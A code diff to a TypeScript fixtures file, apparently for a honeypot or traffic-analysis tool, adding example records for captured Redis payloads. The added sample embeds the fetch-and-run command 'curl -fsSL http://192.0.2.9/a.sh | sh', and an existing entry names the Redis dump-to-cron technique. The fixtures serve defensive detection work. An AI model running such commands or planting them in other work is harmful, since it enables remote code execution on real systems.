@@ -114,7 +114,19 @@ export const examples: { [K in ActionName]: Details<K>[] } = {
   exploit: [
     { id: 'redis-cron', name: 'Redis dump written as a cron job', evidence: 'CONFIG SET dir /var/spool/cron, SAVE' },
   ],
-  payload: [{ sample, start: 'X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR' }],
+  payload: [
+    { sample, start: 'X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR' },
+    {
+      sample,
+      start: '*2\\r\\n$3\\r\\nGET\\r\\n$40\\r\\ncurl -fsSL http://192.0.2.9/a.sh | sh\\r\\n',
+      protocol: 'redis',
+      tags: ['text'],
+      entropy: 4.31,
+      shape: '5f2d0a1c9b3e8d47',
+      layers: ['base64 > gzip'],
+      indicators: [{ kind: 'url', value: 'http://192.0.2.9/a.sh' }],
+    },
+  ],
   malformed: [{ why: 'Expected a digit, got "x"', bytes: '*x\\r\\n' }],
   serviceError: [
     { stack: 'TypeError: example\n    at session (src/services/ftp/session.ts:1:1)', bytes: 'STOR \\xff' },
